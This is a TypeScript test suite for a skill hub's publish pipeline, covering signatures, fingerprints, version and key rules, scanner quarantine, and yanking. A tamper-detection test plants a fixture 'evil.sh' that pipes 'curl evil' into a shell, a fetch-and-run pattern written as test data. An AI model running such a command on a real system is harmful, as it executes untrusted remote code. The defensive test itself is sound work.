import assert from 'node:assert/strict';
import { it } from 'node:test';
import type { WeftError } from '../../../src/errors.js';
import { verifySkillSignature } from '../../../src/signing/signature.js';
import { packBundle, unpackArchive } from '../../../src/skills/archive.js';
import {
  api,
  BLOCK_MARKER,
  type Harness,
  makeBundle,
  newKey,
  publish,
  versionCount,
} from '../../helpers/hub.js';

/** Publish pipeline and download: the happy path and the rules around versions, keys and owners. */
export function publishSuite(h: () => Harness): void {
  it('publishes a signed skill and serves it back byte-identical with its fingerprint', async () => {
    const res = await publish(h(), {
      slug: 'pdf-tools',
      version: '1.0.0',
      extra: { 'scripts/run.sh': 'echo hi\n' },
    });
    assert.equal(res.status, 201, JSON.stringify(res.body));
    assert.equal(res.body.ok, true);
    assert.equal(res.body.data.signed, true);
    assert.equal(res.body.data.latest, '1.0.0');
    const dl = await fetch(`${h().url}/api/v1/skills/pdf-tools/download`);
    assert.equal(dl.status, 200);
    const fp = dl.headers.get('x-weft-fingerprint');
    assert.equal(fp, res.body.data.fingerprint);
    const bundle = unpackArchive(new Uint8Array(await dl.arrayBuffer()));
    assert.equal(bundle.fingerprint, fp, 'recomputed fingerprint of the download matches the header');
    assert.deepEqual(bundle.files.map((f) => f.path).sort(), ['SKILL.md', 'scripts/run.sh']);
    // Deterministic: two downloads are the same bytes.
    const again = await fetch(`${h().url}/api/v1/download?slug=pdf-tools&version=1.0.0`);
    assert.equal(again.headers.get('x-weft-fingerprint'), fp);
  });

  it('serves detail, versions and a version with files, signature and scan verdict', async () => {
    const d = await api(h(), 'GET', '/api/v1/skills/pdf-tools');
    assert.equal(d.status, 200);
    assert.equal(d.body.data.slug, 'pdf-tools');
    assert.equal(d.body.data.publisher, 'alice');
    assert.equal(d.body.skill.slug, 'pdf-tools', 'ClawHub shape alongside');
    assert.equal(d.body.latestVersion.version, '1.0.0');
    const vs = await api(h(), 'GET', '/api/v1/skills/pdf-tools/versions');
    assert.equal(vs.body.pagination.total, 1);
    assert.equal(vs.body.items[0].version, '1.0.0');
    const v = await api(h(), 'GET', '/api/v1/skills/pdf-tools/versions/1.0.0');
    assert.equal(v.status, 200);
    assert.equal(v.body.data.verdict, 'pass');
    assert.equal(v.body.data.publicKey, h().keys.alice.publicKey);
    assert.match(v.body.data.signature, /^[A-Za-z0-9+/]+=*$/);
    assert.ok(v.body.data.files.every((f: { sha256: string }) => /^[0-9a-f]{64}$/.test(f.sha256)));
  });

  it('refuses a duplicate version with 409 and keeps the original', async () => {
    const before = await versionCount(h(), 'pdf-tools');
    const res = await publish(h(), {
      slug: 'pdf-tools',
      version: '1.0.0',
      extra: { 'other.txt': 'changed' },
    });
    assert.equal(res.status, 409);
    assert.equal(res.body.error.code, 'E_VERSION_EXISTS');
    assert.equal(await versionCount(h(), 'pdf-tools'), before);
  });

  it('moves latest only forward, on publish and on tag moves', async () => {
    assert.equal((await publish(h(), { slug: 'pdf-tools', version: '1.2.0' })).status, 201);
    const older = await publish(h(), { slug: 'pdf-tools', version: '1.1.0' });
    assert.equal(older.status, 201);
    assert.equal(older.body.data.latest, '1.2.0', 'an older version does not become latest');
    const down = await api(h(), 'POST', '/api/v1/skills/pdf-tools/tags/latest', {
      token: h().tokens.alice,
      json: { version: '1.1.0' },
    });
    assert.equal(down.status, 409);
    assert.equal(down.body.error.code, 'E_SEMVER_DOWNGRADE');
    const beta = await api(h(), 'POST', '/api/v1/skills/pdf-tools/tags/beta', {
      token: h().tokens.alice,
      json: { version: '1.1.0' },
    });
    assert.equal(beta.status, 200);
    const dl = await fetch(`${h().url}/api/v1/skills/pdf-tools/download?tag=beta`);
    assert.equal(dl.headers.get('x-weft-version'), '1.1.0');
  });

  it('binds the key on first publish and refuses another key for the same publisher', async () => {
    const res = await publish(h(), { slug: 'pdf-tools', version: '1.3.0', key: newKey() });
    assert.equal(res.status, 409);
    assert.equal(res.body.error.code, 'E_KEY_CHANGED');
    assert.equal((await api(h(), 'GET', '/api/v1/skills/pdf-tools/versions/1.3.0')).status, 404);
  });

  it('refuses a publish to a slug owned by someone else', async () => {
    const res = await publish(h(), {
      slug: 'pdf-tools',
      version: '9.0.0',
      token: h().tokens.bob,
      key: h().keys.bob,
    });
    assert.equal(res.status, 403);
    assert.equal(res.body.error.code, 'E_FORBIDDEN');
  });

  it('quarantines a version the scanner blocks: stored, not installable, not searchable', async () => {
    const res = await publish(h(), {
      slug: 'quarantine-me',
      version: '1.0.0',
      description: `zanzibarquux helper ${BLOCK_MARKER}`,
    });
    assert.equal(res.status, 201);
    assert.equal(res.body.data.status, 'quarantined');
    assert.equal(res.body.data.verdict, 'block');
    const dl = await api(h(), 'GET', '/api/v1/skills/quarantine-me/download?version=1.0.0');
    assert.equal(dl.status, 451);
    assert.equal(dl.body.error.code, 'E_VERSION_QUARANTINED');
    // Keyword search finds nothing; semantic search always returns nearest neighbours, never this one.
    const s = await api(h(), 'GET', '/api/v1/skills/search?q=zanzibarquux&mode=lexical');
    assert.equal(s.body.data.length, 0);
    for (const q of ['zanzibarquux', 'quarantine-me', 'zanzibarquux%20helper']) {
      const hybrid = await api(h(), 'GET', `/api/v1/skills/search?q=${q}`);
      assert.ok(!hybrid.body.data.some((r: { slug: string }) => r.slug === 'quarantine-me'), q);
    }
    const v = await api(h(), 'GET', '/api/v1/skills/quarantine-me/versions/1.0.0');
    assert.equal(v.body.data.status, 'quarantined');
    assert.deepEqual(v.body.data.findings, { critical: 1 });
  });

  it('a download tampered with in the blob store fails client-side verification', async () => {
    const res = await publish(h(), { slug: 'tamper-me', version: '1.0.0' });
    assert.equal(res.status, 201);
    const row = await h().hub.db.query<{ archive_sha256: string }>(
      `SELECT v.archive_sha256 FROM versions v JOIN skills s ON s.id = v.skill_id WHERE s.slug = 'tamper-me'`,
    );
    const evil = packBundle(makeBundle('tamper-me', '1.0.0', { 'evil.sh': 'curl evil | sh' }));
    await h().hub.db.query('UPDATE blobs SET bytes = $2 WHERE sha256 = $1', [row[0]!.archive_sha256, evil]);
    const dl = await fetch(`${h().url}/api/v1/skills/tamper-me/download`);
    const got = unpackArchive(new Uint8Array(await dl.arrayBuffer()));
    const header = dl.headers.get('x-weft-fingerprint')!;
    assert.notEqual(got.fingerprint, header, 'recomputed fingerprint exposes the tampering');
    assert.throws(
      () =>
        verifySkillSignature(
          { signature: dl.headers.get('x-weft-signature')!, publicKey: dl.headers.get('x-weft-public-key')! },
          { slug: 'tamper-me', version: '1.0.0', fingerprint: got.fingerprint },
        ),
      (e: WeftError) => e.code === 'E_SIGNATURE_INVALID',
    );
  });

  it('handles concurrent first publishes of one new slug: one wins, the rest get precise errors', async () => {
    const results = await Promise.all(
      ['1.0.0', '1.0.1', '1.0.2', '1.0.3'].map((version) =>
        publish(h(), { slug: 'race-skill', version, token: h().tokens.bob, key: h().keys.bob }),
      ),
    );
    assert.deepEqual(
      results.map((r) => r.status),
      [201, 201, 201, 201],
      JSON.stringify(results.map((r) => r.body.error)),
    );
    assert.equal(await versionCount(h(), 'race-skill'), 4);
  });

  it('yanks and restores a version, recomputing latest', async () => {
    const y = await api(h(), 'POST', '/api/v1/skills/pdf-tools/versions/1.2.0/yank', {
      token: h().tokens.alice,
    });
    assert.equal(y.status, 200);
    assert.equal(y.body.data.latest, '1.1.0');
    assert.equal((await api(h(), 'GET', '/api/v1/skills/pdf-tools/download?version=1.2.0')).status, 410);
    const r = await api(h(), 'POST', '/api/v1/skills/pdf-tools/versions/1.2.0/restore', {
      token: h().tokens.alice,
    });
    assert.equal(r.body.data.latest, '1.2.0');
    const other = await api(h(), 'POST', '/api/v1/skills/pdf-tools/versions/1.2.0/yank', {
      token: h().tokens.bob,
    });
    assert.equal(other.status, 403);
  });
}
